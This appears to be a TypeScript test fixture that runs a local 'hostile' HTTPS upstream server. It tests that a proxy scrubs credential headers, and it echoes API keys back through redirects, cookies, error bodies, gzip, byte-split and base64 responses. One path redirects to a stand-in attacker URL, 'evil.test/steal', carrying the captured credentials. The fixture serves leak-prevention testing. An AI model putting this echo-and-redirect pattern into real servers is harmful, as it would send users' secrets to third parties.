import type { IncomingMessage, ServerResponse } from 'node:http';
import { createServer } from 'node:https';
import type { AddressInfo, Socket } from 'node:net';
import { gzipSync } from 'node:zlib';
import type { EchoBody } from './upstream.js';
import type { TestPki } from './pki.js';

/**
 * An HTTPS upstream (test CA leaves) that hands back every credential header it receives in the
 * ways real APIs do, for the tests of docs/contract.md#never-leak. `creds` below = the values of authorization,
 * x-api-key, x-custom-auth and x-goog-api-key joined by `|`. Paths:
 * - `/redirect`: 302, `Location: https://evil.test/steal?c=<creds>`, plus `X-Echo-Auth: <creds>`
 * - `/cookie`: 200 with `Set-Cookie: session=<creds>` (twice, as an array)
 * - `/error`: 401 JSON `{"error":{"message":"Incorrect API key provided: <creds>"}}`, with Content-Length
 * - `/gzip`: the request headers as gzipped JSON
 * - `/split`: the creds written one byte per chunk (a value split across reads)
 * - `/base64`: base64 of `<creds>` in the body, with Content-Length
 * - anything else: the request headers as JSON, like the echo upstream
 */
export interface HostileUpstream {
  readonly port: number;
  /** What it received (last 100). */
  readonly seen: readonly EchoBody[];
  close(): Promise<void>;
}

const CREDENTIAL_HEADERS = ['authorization', 'x-api-key', 'x-custom-auth', 'x-goog-api-key'];

export async function startHostileUpstream(pki: TestPki): Promise<HostileUpstream> {
  const seen: EchoBody[] = [];
  const server = createServer({ SNICallback: pki.certs.sniCallback }, (req, res) => {
    req.resume();
    req.on('end', () => {
      seen.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers, bodyBytes: 0 });
      if (seen.length > 100) seen.shift();
      answer(req, res);
    });
  });
  const sockets = new Set<Socket>();
  server.on('connection', (socket: Socket) => {
    sockets.add(socket);
    socket.once('close', () => sockets.delete(socket));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    port: (server.address() as AddressInfo).port,
    seen,
    close: async () => {
      for (const socket of sockets) socket.destroy();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

function answer(req: IncomingMessage, res: ServerResponse): void {
  const creds = CREDENTIAL_HEADERS.map((name) => req.headers[name]).filter(Boolean).join('|');
  const path = new URL(req.url ?? '/', 'https://upstream.invalid').pathname;
  switch (path) {
    case '/redirect':
      res.writeHead(302, { location: `https://evil.test/steal?c=${encodeURIComponent(creds)}`, 'x-echo-auth': creds }).end();
      return;
    case '/cookie':
      res.writeHead(200, { 'set-cookie': [`session=${creds}`, `again=${creds}`], 'content-type': 'text/plain' }).end('ok');
      return;
    case '/error': {
      // With a Content-Length, so the proxy's hold-and-scrub path for small bodies is exercised too.
      const body = JSON.stringify({ error: { message: `Incorrect API key provided: ${creds}` } });
      res.writeHead(401, { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) }).end(body);
      return;
    }
    case '/gzip':
      res.writeHead(200, { 'content-type': 'application/json', 'content-encoding': 'gzip' })
        .end(gzipSync(JSON.stringify({ headers: req.headers })));
      return;
    case '/split':
      splitWrite(res, Buffer.from(`creds=${creds}\n`));
      return;
    case '/base64': {
      const body = Buffer.from(creds).toString('base64');
      res.writeHead(200, { 'content-type': 'text/plain', 'content-length': body.length }).end(body);
      return;
    }
    default:
      res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ headers: req.headers }));
  }
}

/** One byte per write, on separate ticks, so the proxy reads the value in many pieces. */
function splitWrite(res: ServerResponse, bytes: Buffer): void {
  res.writeHead(200, { 'content-type': 'text/plain' });
  writeInSlices(res, bytes, 1);
}

/** Writes `body` `sliceSize` bytes at a time, each on its own tick, then ends the response. */
export function writeInSlices(res: ServerResponse, body: Buffer, sliceSize: number): void {
  let at = 0;
  const next = (): void => {
    if (res.destroyed) return;
    if (at >= body.length) {
      res.end();
      return;
    }
    res.write(body.subarray(at, at + sliceSize));
    at += sliceSize;
    setImmediate(next);
  };
  next();
}
